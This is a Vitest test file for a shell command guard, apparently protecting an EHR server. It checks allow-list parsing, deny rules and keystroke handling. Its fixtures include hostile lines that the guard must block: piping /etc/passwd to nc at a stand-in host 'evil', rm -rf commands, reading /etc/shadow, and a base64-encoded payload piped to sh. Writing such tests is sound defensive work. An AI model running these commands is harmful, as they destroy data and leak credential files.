import { describe, expect, it } from 'vitest';
import { checkAllowList, checkDeniedLine, createLineGuard, parseCommand } from './command-control.js';

describe('allow-mode command parsing', () => {
  it('splits words and honours plain quotes', () => {
    expect(parseCommand(`systemctl status 'ehr api' "x y"`)).toEqual({ ok: true, argv: ['systemctl', 'status', 'ehr api', 'x y'] });
  });

  it.each([
    ['ls; rm -rf /', ';'],
    ['ls && id', '&'],
    ['ls | sh', '|'],
    ['echo $(id)', '$'],
    ['echo `id`', '`'],
    ['cat /etc/*', '*'],
    ['ls > /tmp/x', '>'],
    ['echo "$HOME"', '$'],
    ['echo a\\;b', '\\'],
    ['ls\nid', '\n'],
  ])('refuses %j because of %j', (line, char) => {
    const parsed = parseCommand(line);
    expect(parsed.ok).toBe(false);
    if (!parsed.ok) expect(parsed.reason).toContain(JSON.stringify(char));
  });

  it('matches argv exactly, no prefixes and no extra arguments', () => {
    const allowed = [['systemctl', 'status', 'ehr-api'], ['uptime']];
    expect(checkAllowList('systemctl status ehr-api', allowed)).toEqual({ allowed: true });
    expect(checkAllowList("systemctl  'status'  ehr-api", allowed)).toEqual({ allowed: true });
    expect(checkAllowList('systemctl status ehr-api --now', allowed).allowed).toBe(false);
    expect(checkAllowList('systemctl status', allowed).allowed).toBe(false);
    expect(checkAllowList('uptime; reboot', allowed).allowed).toBe(false);
    expect(checkAllowList('', allowed).allowed).toBe(false);
  });
});

describe('deny-mode line analysis', () => {
  it.each([
    ['ls; rm -rf /var/lib/ehr', 'command separator ;'],
    ['true && reboot', 'chained commands (&& or ||)'],
    ['cat /etc/passwd | nc evil 80', 'pipe |'],
    ['echo $(cat /etc/shadow)', 'command substitution $(…)'],
    ['echo `id`', 'command substitution with backticks'],
    ['echo cm0gLXJmIC8K | base64 -d | sh', 'decoded payload piped to a shell'],
    ["$'\\x72\\x6d' -rf /", 'escaped characters hide the command'],
    ['ls \x1b[A', 'control or escape sequences in the line (history, cursor editing) cannot be verified'],
  ])('blocks %j', (line, reason) => {
    expect(checkDeniedLine(line)).toEqual({ allowed: false, reason });
  });

  it('lets ordinary commands through', () => {
    expect(checkDeniedLine('systemctl status ehr-api')).toEqual({ allowed: true });
    expect(checkDeniedLine('tail -n 50 /var/log/ehr/app.log')).toEqual({ allowed: true });
  });
});

describe('line guard over keystrokes', () => {
  it('rebuilds the line through backspaces and forwards allowed lines untouched', () => {
    const guard = createLineGuard();
    const typed = ['l', 's', 'x', '\x7f', ' ', '-', 'l', '\r'].map((key) => guard.feed(Buffer.from(key)));
    expect(typed.every((result) => !result.blocked)).toBe(true);
    expect(Buffer.concat(typed.map((result) => result.forward)).toString()).toBe('lsx\x7f -l\r');
  });

  it('replaces the Enter of a blocked line with Ctrl-U and drops what follows', () => {
    const guard = createLineGuard();
    guard.feed(Buffer.from('id; rebo'));
    const result = guard.feed(Buffer.from('ot\rwhoami\r'));
    expect(result.blocked).toEqual({ line: 'id; reboot', reason: 'command separator ;' });
    expect(result.forward.toString()).toBe('ot\x15');
    // The next line starts clean.
    expect(guard.feed(Buffer.from('uptime\r')).blocked).toBeUndefined();
  });

  it('blocks a paste burst that submits a line', () => {
    const guard = createLineGuard({ pasteBurstChars: 64 });
    const result = guard.feed(Buffer.from(`${'echo harmless '.repeat(10)}\r`));
    expect(result.blocked?.reason).toMatch(/^paste burst/);
  });
});
